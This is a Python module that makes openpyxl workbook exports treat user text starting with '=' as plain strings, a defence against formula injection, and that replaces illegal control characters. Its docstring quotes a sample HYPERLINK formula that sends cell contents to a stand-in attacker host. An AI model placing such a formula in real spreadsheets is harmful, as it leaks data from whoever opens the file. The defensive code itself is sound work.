"""Excel workbooks the platform writes (report exports, and any other .xlsx): every writer goes
through here so that text from users stays text in the reader's Excel.

openpyxl stores any str that starts with "=" as a formula, so a client named
`=HYPERLINK("http://evil.example/?x="&A1,"click")` would become a live formula in whoever opens the
export (formula injection; OWASP's CSV-injection guidance). A `TextSheet` types every such value as
a string cell (data_type "s", written as an inline string) instead of prefixing a quote, so the
value stays exactly what the user typed and Excel shows it as text. Strings that do not start with
"=" are already strings to openpyxl; numbers, dates and booleans pass untouched.

XML 1.0 has no place for most control characters (U+0000 to U+001F but tab, LF and CR), which a
text field may hold: openpyxl refuses such a string, and one client named so failed the whole
export. Each one is written as U+FFFD (the replacement character, "�"), so the reader sees that
something was there.

The sheets are write-only (rows go to a temporary file as they come, so memory stays flat however
many rows); `TextSheet.sheet` is the openpyxl sheet for layout (freeze panes, autofilter)."""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Excel's limit on a sheet's title.
MAX_SHEET_TITLE = 31


def storable(value: Any) -> Any:
    """`value`, with each character a workbook cannot hold replaced by U+FFFD when it is text."""
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    return value


def as_text(cell: Cell) -> Cell:
    """The cell typed as a string when it holds one (never a formula), kept exactly as it is."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell


class TextSheet:
    """A write-only sheet whose text cells are never formulas."""

    def __init__(self, sheet: WriteOnlyWorksheet):
        self.sheet = sheet

    def cell(self, value: Any, *, font: Font | None = None, number_format: str | None = None) -> Cell:
        """A styled cell for append(); text in it stays text."""
        made = as_text(WriteOnlyCell(self.sheet, value=storable(value)))
        if font is not None:
            made.font = font
        if number_format is not None:
            made.number_format = number_format
        return made

    def append(self, values: Iterable[Any]) -> None:
        """One row: plain values (str, numbers, dates, None) and cells; a str that openpyxl would
        store as a formula becomes a string cell, and so does a cell made elsewhere holding one."""
        row = [storable(value) for value in values]
        for i, value in enumerate(row):
            if isinstance(value, str):
                if value.startswith("="):
                    row[i] = as_text(WriteOnlyCell(self.sheet, value=value))
            elif isinstance(value, Cell) and value.data_type == "f":
                as_text(value)
        self.sheet.append(row)


class TextWorkbook:
    """A write-only workbook of TextSheets."""

    def __init__(self) -> None:
        self.workbook = Workbook(write_only=True)

    def add_sheet(self, title: str) -> TextSheet:
        return TextSheet(self.workbook.create_sheet(title[:MAX_SHEET_TITLE]))

    def save(self, out: Any) -> None:
        """Writes the workbook to a path or a binary file."""
        self.workbook.save(out)
